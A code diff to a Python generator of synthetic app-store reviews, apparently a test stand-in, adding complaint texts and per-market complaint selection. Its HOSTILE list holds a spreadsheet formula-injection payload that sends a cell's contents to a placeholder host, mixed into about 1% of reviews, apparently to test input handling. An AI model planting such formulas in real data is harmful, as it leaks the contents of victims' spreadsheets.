@@ -8,9 +8,10 @@ from __future__ import annotations
 
 import heapq
 import math
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from datetime import datetime, timedelta
 from itertools import islice
+from typing import TypeVar
 
 import msgspec
 
@@ -20,10 +21,13 @@ from penstock_systems.standins.appstore.chance import Draws, mix, pick, share_th
 from penstock_systems.standins.appstore.genres import STOREFRONTS
 from penstock_systems.standins.appstore.markets import Market
 
+T = TypeVar("T")
+
 WRITTEN_SHARE = 0.03  # of the ratings come with words
 SHOWN_MAX = 500  # the newest ones; nobody sees the others
 REWRITTEN_EVERY, REWRITTEN_WITHIN = 25, 200  # counted in reviews
 TAKEN_EVERY, TAKEN_WITHIN = 33, 300
+USUAL_COMPLAINTS, USUAL_MORE = 4, 3  # that users of a market write
 HOSTILE_SHARE = 0.01
 LIFE_DAYS_MIN = 30
 IDS_AN_APP = 10_000_000
@@ -35,6 +39,17 @@ COMPLAINTS = (
     ("Ads everywhere", "An advertisement after every tap. I only wanted {0}, not ten videos a minute."),
     ("No widget", "There is still no widget for {0}, and no way to export anything."),
     ("Hard to use", "I could not find out how {0} works. The new design hides everything."),
+    ("Useless offline", "Without internet it shows an empty page. I need {0} most where there is no signal."),
+    ("Account required", "Why must I register with my email address to see {0}? I deleted it again."),
+    ("Drains the battery", "My battery is empty by noon since I use it for {0}, and the phone gets hot."),
+    ("Wrong numbers", "The statistics for {0} are wrong by half. I compared them with my own spreadsheet."),
+    (
+        "Notifications",
+        "It sends me notifications about {0} at three in the morning. The setting to silence them is ignored.",
+    ),
+    ("No dark mode", "The white background blinds me at night. Everybody asks for a dark mode, and {0} stays white."),
+    ("Cannot share", "I cannot share {0} with my partner. Two phones, two lists, and no way to merge them."),
+    ("So slow", "Loading {0} takes half a minute on a phone of last year. It was quick before."),
 )
 PRAISE = (
     ("Love it", "Exactly what I was looking for. I use it for {0} every day."),
@@ -48,9 +63,13 @@ FONDNESS = (
 )
 MORE = (
     "I have tried many apps for {0} and they all have the same problem.",
-    "Support wrote back after three weeks with a text that had nothing to do with my question.",
+    "Customer service took three weeks, and answered something that had nothing to do with my question.",
     "Please bring back the old version.",
     "It is fine on the phone, but on the tablet the {0} screen is cut off.",
+    "The translation into my language was made by a machine.",
+    "Restoring my purchase on a new phone failed.",
+    "The search finds nothing unless every letter is right.",
+    "There is no Apple Watch app for {0}.",
 )
 HOSTILE = (
     '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
@@ -76,7 +95,17 @@ class Review(msgspec.Struct, frozen=True):
 
 def complaint_of(catalogue: Catalogue, market: Market) -> tuple[str, str]:
     """What the users of a market miss most: half of the unhappy ones say this."""
-    return COMPLAINTS[mix(catalogue.seed, 96, market.number) % len(COMPLAINTS)]
+    return _complaints(catalogue, market)[0]
+
+
+def _complaints(catalogue: Catalogue, market: Market) -> list[tuple[str, str]]:
+    """What users of a market complain about at all, the most common first."""
+    return _some(COMPLAINTS, USUAL_COMPLAINTS, mix(catalogue.seed, 96, market.number))
+
+
+def _some(of: Sequence[T], count: int, luck: int) -> list[T]:
+    """A few that stand apart in a list: each market has its own."""
+    return [of[(luck + turn * (1 + luck // len(of) % 3)) % len(of)] for turn in range(count)]
 
 
 def newest(catalogue: Catalogue, app: App, now: datetime, country: str, start: int, count: int) -> list[Review]:
@@ -136,15 +165,15 @@ def _moments(app: App, now: datetime, country: str) -> Iterator[tuple[float, int
 def _review(catalogue: Catalogue, app: App, country: str, day: float, number: int, rewritten: bool) -> Review:
     draws = Draws(app.index, STOREFRONTS[country].id, 95, number, rewritten)
     stars = _stars(draws, app.stars)
+    market = catalogue.place(app.index)[0]
     word = app.keywords[number % len(app.keywords)]
     if stars >= 4:
         title, body = draws.pick(PRAISE)
     else:
-        usual = complaint_of(catalogue, catalogue.place(app.index)[0])
-        title, body = usual if draws.share() < 0.5 else draws.pick(COMPLAINTS)
-    more = (
-        draws.pick(FONDNESS if stars >= 4 else MORE) for _ in range(int(draws.skewed(0.8 if stars >= 4 else 2.0, 0.8)))
-    )
+        usual = _complaints(catalogue, market)
+        title, body = usual[0] if draws.share() < 0.5 else draws.pick(usual)
+    rest = FONDNESS if stars >= 4 else _some(MORE, USUAL_MORE, mix(catalogue.seed, 94, market.number))
+    more = (draws.pick(rest) for _ in range(int(draws.skewed(0.8 if stars >= 4 else 2.0, 0.8))))
     text = " ".join([body, *more]).format(word)
     if draws.share() < HOSTILE_SHARE:
         text = f"{draws.pick(HOSTILE)} {text}"
